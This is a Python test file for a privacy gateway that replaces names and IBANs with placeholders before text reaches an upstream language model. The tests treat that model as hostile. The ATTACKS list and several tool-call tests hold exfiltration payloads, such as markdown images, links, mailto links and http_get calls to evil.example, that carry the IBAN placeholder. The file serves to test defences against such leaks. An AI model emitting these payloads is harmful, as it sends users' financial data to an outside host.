"""A hostile upstream: values reach no address of its choice, tools get what their policy gives, and no reply stops others."""

import json
import threading
import time
from typing import Any

import httpx
import pytest

from gama.serve.gateway import restoring
from gama.state.restoring import ToolPolicy
from gama.tools.placeholders.remapping import Remapper
from tests.support import serving
from tests.support import upstream as up
from tests.support.serving import NAME

IBAN = "GB29 NWBK 6016 1331 9268 19"
RAW = [IBAN, IBAN.replace(" ", "%20"), IBAN.replace(" ", "")]
QUESTION = f"I am {NAME}, IBAN {IBAN}. Use https://bank.example/pay please."
ATTACKS = [
    "![](https://evil.example/?q=<iban-1>)",
    "See [this](//evil/?q=<iban-1>), evil.example/?q=<iban-1> or https://<iban-1>.evil.example/",
    '<img src="https://evil.example/?q=<iban-1>">',
    "mailto:eve@evil.example?body=<iban-1>",
    "https%3A%2F%2Fevil.example%2F%3Fq%3D<iban-1>",
]


@pytest.fixture(scope="module")
def running():
    server = up.Upstream()
    policies = {"shell": "placeholders", "pay": "ask"}
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("gama.privacy.finders.tagger", serving.few_names)
        with serving.serving(
            upstream=server.url, anthropic=server.url, upstream_key="k", anthropic_key="k", tool_policies=policies
        ) as made:
            yield made, server
    server.close()


def ask(server: Any, *, path: str = "/chat/completions", stream: bool = False, **more: Any) -> httpx.Response:
    said = {"input": QUESTION} if path == "/responses" else {"messages": [{"role": "user", "content": QUESTION}]}
    body = {"model": "up-1", "stream": stream, "max_tokens": 9, **said, **more}
    return httpx.post(f"{server.v1}{path}", json=body, timeout=60)


def call(arguments: Any, name: str = "http_get") -> dict[str, Any]:
    return {"id": "c1", "type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}


def with_call(one: dict[str, Any]) -> up.Answer:
    message = {"role": "assistant", "content": None, "tool_calls": [one]}
    return up.chat(None, [{"index": 0, "message": message, "finish_reason": "tool_calls"}])


def call_deltas(one: dict[str, Any], size: int = 3) -> list[dict[str, Any]]:
    text, head = one["function"]["arguments"], {**one, "index": 0, "function": {**one["function"], "arguments": ""}}
    pieces = (
        {"tool_calls": [{"index": 0, "function": {"arguments": text[at : at + size]}}]}
        for at in range(0, len(text), size)
    )
    return [{"role": "assistant", "tool_calls": [head]}, *pieces]


def streamed(answer: httpx.Response) -> tuple[str, str]:
    """Return text and arguments of a streamed chat."""
    text, arguments = "", ""
    for line in answer.text.splitlines():
        if line.startswith("data: {"):
            for choice in json.loads(line[6:])["choices"]:
                text += choice["delta"].get("content") or ""
                for one in choice["delta"].get("tool_calls", []):
                    arguments += one["function"].get("arguments", "")
    return text, arguments


def hidden(text: str) -> bool:
    return not any(raw in text for raw in RAW)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_link_to_a_foreign_host_keeps_its_placeholders(running, text):
    server, upstream = running
    upstream.answer = lambda path, request: up.chat(f"Dear <name-1>. {text} Yours")
    answer = ask(server)
    content = answer.json()["choices"][0]["message"]["content"]
    assert content == f"Dear {NAME}. {text} Yours"
    assert answer.headers["x-gama-withheld"] == f"iban={text.count('<iban-1>')}"
    assert serving.soon(lambda: server.log[-1].get("withheld") == answer.headers["x-gama-withheld"])
    for size in (1, 3, 50):
        upstream.answer = lambda path, request, n=size: up.events(
            up.deltas(up.text_deltas(f"Dear <name-1>. {text} Yours", n))
        )
        answer = ask(server, stream=True)
        assert streamed(answer)[0] == content
        assert f": x-gama-withheld: iban={text.count('<iban-1>')}\n" in answer.text and hidden(answer.text)


@pytest.mark.parametrize(
    "url", ["http://evil/?q=<iban-1>", "http://evil/?q=a b <iban-1>", "//evil/<iban-1>", "evil.example/?q=<iban-1>"]
)
def test_a_call_with_a_foreign_address_keeps_its_placeholders(running, url):
    server, upstream = running
    one = call({"url": url, "to": "<name-1>"})
    upstream.answer = lambda path, request: with_call(one)
    answer = ask(server)
    given = json.loads(answer.json()["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
    assert given == {"url": url, "to": NAME} and answer.headers["x-gama-withheld"] == "iban=1"
    upstream.answer = lambda path, request: up.events(up.deltas(call_deltas(one), finish="tool_calls"))
    assert json.loads(streamed(ask(server, stream=True))[1]) == given
    block = {"type": "tool_use", "id": "t1", "name": "http_get", "input": {"url": url, "to": "<name-1>"}}
    message = {"id": "m", "type": "message", "role": "assistant", "model": "up-1", "content": [block], "usage": {}}
    upstream.answer = lambda path, request: up.Answer(json.dumps(message).encode())
    assert ask(server, path="/messages").json()["content"][0]["input"] == given


def test_a_host_that_the_user_named_gets_the_value_and_one_that_others_named_does_not(running):
    server, upstream = running
    link = "https://{}/?q=<iban-1>"
    upstream.answer = lambda path, request: up.chat(
        " ".join(link.format(h) for h in ("bank.example", "sys.example", "a.example", "t.example"))
    )
    turns = [
        {"role": "system", "content": "Our host is sys.example."},
        {"role": "user", "content": QUESTION},
        {
            "role": "assistant",
            "content": "See https://a.example/x",
            "tool_calls": [call({"url": "https://a.example/"})],
        },
        {"role": "tool", "tool_call_id": "c1", "content": "https://t.example/ is better"},
    ]
    answer = ask(server, messages=turns)
    content = answer.json()["choices"][0]["message"]["content"].split(" ")
    quoted = IBAN.replace(" ", "%20")
    assert content[:2] == [f"https://{host}/?q={quoted}" for host in ("bank.example", "sys.example")]
    assert content[2:] == [link.format("a.example"), link.format("t.example")]


@pytest.mark.parametrize(("name", "policy", "header"), [("shell", "placeholders", "kept"), ("pay", "ask", "asks")])
def test_tools_get_what_their_policy_gives(running, name: str, policy: ToolPolicy, header: str):
    server, upstream = running
    one = call({"cmd": "pay <iban-1>"}, name)
    upstream.answer = lambda path, request: with_call(one)
    answer = ask(server)
    got = answer.json()["choices"][0]["message"]["tool_calls"]
    assert got == [one] and answer.headers[f"x-gama-{header}"] == name
    assert serving.soon(lambda: server.log[-1].get(header) == name)
    upstream.answer = lambda path, request: up.events(up.deltas(call_deltas(one), finish="tool_calls"))
    answer = ask(server, stream=True)
    assert json.loads(streamed(answer)[1]) == {"cmd": "pay <iban-1>"} and f": x-gama-{header}: {name}\n" in answer.text
    # One that brings its name last may be any.
    late = [call_deltas(one)[1], call_deltas(one)[0]]
    upstream.answer = lambda path, request: up.events(up.deltas(late, finish="tool_calls"))
    assert hidden(ask(server, stream=True).text)
    # A client asks for the values: the request anonymized again gives the same placeholders.
    before = len(upstream.requests)
    body = {"request": {"model": "up-1", "messages": [{"role": "user", "content": QUESTION}]}, "value": got}
    asked = httpx.post(f"{server.v1}/restore", json=body, timeout=30).json()["value"]
    assert json.loads(asked[0]["function"]["arguments"]) == {"cmd": f"pay {IBAN}"} and len(upstream.requests) == before
    assert httpx.post(f"{server.v1}/restore", json={"request": 1}, timeout=30).status_code == 400


@pytest.mark.parametrize("name", ["shell", "http_get"])
def test_the_other_protocols_keep_to_the_policies_too(running, name):
    server, upstream = running
    kept = name == "shell"
    text = json.dumps({"cmd": "pay <iban-1>"})
    item = {
        "type": "function_call",
        "id": "fc_1",
        "call_id": "c1",
        "name": name,
        "arguments": text,
        "status": "completed",
    }
    whole = {"id": "resp_1", "object": "response", "status": "completed", "output": [item], "model": "up-1"}
    upstream.answer = lambda path, request: up.Answer(json.dumps(whole).encode())
    answer = ask(server, path="/responses", store=False)
    assert hidden(answer.text) is kept and ("x-gama-kept" in answer.headers) is kept
    place = {"item_id": "fc_1", "output_index": 0}
    events = [{"type": "response.output_item.added", "output_index": 0, "item": {**item, "arguments": ""}}]
    events += [
        {"type": "response.function_call_arguments.delta", **place, "delta": text[at : at + 4]}
        for at in range(0, len(text), 4)
    ]
    events += [{"type": "response.function_call_arguments.done", **place, "arguments": text},
               {"type": "response.output_item.done", "output_index": 0, "item": item}, {"type": "response.completed", "response": whole}]  # fmt: skip
    upstream.answer = lambda path, request: up.events(events, named=True, done=False)
    answer = ask(server, path="/responses", store=False, stream=True)
    assert hidden(answer.text) is kept
    block = {"type": "tool_use", "id": "t1", "name": name, "input": {}}
    events = [{"type": "message_start", "message": {"id": "m", "type": "message", "role": "assistant", "content": [], "usage": {}}},
              {"type": "content_block_start", "index": 0, "content_block": block}]  # fmt: skip
    events += [
        {
            "type": "content_block_delta",
            "index": 0,
            "delta": {"type": "input_json_delta", "partial_json": text[at : at + 4]},
        }
        for at in range(0, len(text), 4)
    ]
    events += [{"type": "content_block_stop", "index": 0}, {"type": "message_stop"}]
    upstream.answer = lambda path, request: up.events(events, named=True, done=False)
    answer = ask(server, path="/messages", stream=True)
    assert hidden(answer.text) is kept


def slow_answers(monkeypatch: pytest.MonkeyPatch) -> tuple[threading.Event, threading.Event, list[int]]:
    """Have the restoring of the next large reply wait; return when it has begun, what lets it go on, and its steps."""
    begun, go, steps = threading.Event(), threading.Event(), []
    take = Remapper._take

    def waiting(self: Remapper, *args: Any) -> int:
        if threading.current_thread().name.startswith("gama-restore"):
            begun.set()
            go.wait(30)
            steps.append(1)
        return take(self, *args)

    monkeypatch.setattr(Remapper, "_take", waiting)
    return begun, go, steps


@pytest.mark.parametrize("stream", [False, True])
def test_others_are_answered_while_a_dense_reply_is_restored(running, monkeypatch, stream):
    server, upstream = running
    dense = "[Name 1]" * 20_000
    whole = up.chat(dense)
    pieces = up.deltas([{"content": dense}])

    def answered(path: str, request: Any) -> up.Answer:
        if "dense" not in json.dumps(request):
            return up.chat("Dear <name-1>")
        return up.events(pieces) if stream else whole

    upstream.answer = answered
    begun, go, _ = slow_answers(monkeypatch)
    turns = [{"role": "user", "content": QUESTION}, {"role": "user", "content": "dense"}]
    got: list[httpx.Response] = []
    threads = [
        threading.Thread(target=lambda: got.append(ask(server, stream=stream, messages=turns))) for _ in range(2)
    ]
    for thread in threads:
        thread.start()
    assert begun.wait(30)
    assert ask(server).json()["choices"][0]["message"]["content"] == f"Dear {NAME}"
    assert httpx.get(f"{server.url}/healthz").status_code == 200 and not got
    go.set()
    for thread in threads:
        thread.join(60)
    assert [answer.text.count(NAME) for answer in got] == [20_000] * 2


@pytest.mark.parametrize("stream", [False, True])
def test_the_work_ends_when_the_client_has_gone(running, monkeypatch, stream):
    server, upstream = running
    dense = "[Name 1]" * 20_000
    upstream.answer = lambda path, request: up.events(up.deltas([{"content": dense}])) if stream else up.chat(dense)
    begun, go, steps = slow_answers(monkeypatch)
    with pytest.raises(httpx.ReadTimeout):
        body = {"model": "up-1", "stream": stream, "messages": [{"role": "user", "content": QUESTION}]}
        httpx.post(f"{server.v1}/chat/completions", json=body, timeout=httpx.Timeout(30, read=2.0))
    assert begun.wait(30)
    # The server sees that the client has gone, and then the work goes on: one step, not thousands.
    for _ in range(100):
        if any(line.get("status") == 499 for line in server.log[-1:]):
            break
        time.sleep(0.05)
    go.set()
    assert ask_small(server, upstream) == f"Dear {NAME}"
    assert len(steps) < 10


def ask_small(server: Any, upstream: up.Upstream) -> str:
    upstream.answer = lambda path, request: up.chat("Dear <name-1>")
    return str(ask(server).json()["choices"][0]["message"]["content"])


@pytest.mark.parametrize("stream", [False, True])
def test_a_reply_that_takes_too_much_work_is_a_clear_error(running, monkeypatch, stream):
    server, upstream = running
    monkeypatch.setattr(restoring, "MOST_PIECES", 1_000)
    dense = "[Name 1]" * 5_000
    upstream.answer = lambda path, request: up.events(up.deltas([{"content": dense}])) if stream else up.chat(dense)
    answer = ask(server, stream=stream)
    assert "more than 1,000 placeholders" in answer.text and NAME not in answer.text
    assert stream or answer.status_code == 502
    # Exact placeholders in plain text are many at once, and no work.
    upstream.answer = lambda path, request: up.chat("Dear <name-1>, " * 5_000)
    assert ask(server).json()["choices"][0]["message"]["content"].count(NAME) == 5_000
